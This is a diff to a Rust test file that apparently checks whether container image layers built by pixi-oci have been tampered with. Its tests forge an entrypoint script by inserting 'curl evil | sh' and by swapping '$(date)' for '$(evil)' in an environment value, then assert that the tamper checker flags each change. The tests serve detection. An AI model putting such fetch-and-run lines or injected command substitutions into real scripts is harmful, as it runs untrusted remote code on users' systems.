@@ -34,7 +34,7 @@ fn built(sandbox: &Sandbox) {
     let packages = odd::packages().into_iter().chain([odd::bash(), odd::activated(), linked, through]);
     let ws = workspace(packages)
         .pypi([locked(&shared("one_wheel")), locked(&shared("two_wheel"))])
-        .manifest("[activation]\nscripts = [\"activate.sh\"]\nenv = { QUOTED = \"it's\" }")
+        .manifest("[activation]\nscripts = [\"activate.sh\"]\nenv = { QUOTED = \"it's\", LATE = '$HOME \"x\" $(date)', X = '$CONDA_PREFIX/x:$X' }")
         .oci("include = [\"src\", \"run.sh -> bin/run.sh\"]\ndirectories = [\"/host-libs\"]");
     let root = sandbox.path("ws");
     ws.write(&root);
@@ -166,7 +166,8 @@ fn one_byte_in_a_layer_of_any_kind_is_found() {
     });
     let mut accused: Vec<&str> = found["changed"].iter().filter_map(|text| text.split(' ').next()).collect();
     accused.sort();
-    let mut cases = cases;
+    // Its variables are those of the manifest.
+    let mut cases: Vec<&str> = cases.into_iter().chain(["opt/pixi/entrypoint"]).collect();
     cases.sort();
     assert_eq!(accused, cases, "{found:?}");
     // One that a shell would run.
@@ -174,11 +175,21 @@ fn one_byte_in_a_layer_of_any_kind_is_found() {
         forge(dir, "amd64", |_, entries| {
             change_entry(entries, "opt/pixi/entrypoint", |entry| {
                 let text = String::from_utf8(entry.content.clone()).unwrap();
-                entry.content = text.replace("exec ", "curl evil | sh\nexec ").into();
+                entry.content = text.replace("\nexec \"", "\ncurl evil | sh\nexec \"").into();
             });
         });
     });
     only(found, "changed", "opt/pixi/entrypoint has a line that pixi-oci does not write: curl evil");
+    // A variable that neither the manifest nor a package sets so.
+    let found = findings(&sandbox, |dir| {
+        forge(dir, "amd64", |_, entries| {
+            change_entry(entries, "opt/pixi/entrypoint", |entry| {
+                let text = String::from_utf8(entry.content.clone()).unwrap();
+                entry.content = text.replace("$(date)", "$(evil)").into();
+            });
+        });
+    });
+    only(found, "changed", "opt/pixi/entrypoint has a line that pixi-oci does not write: eval 'export LATE");
     links_modes_and_owners(&sandbox);
 }
 
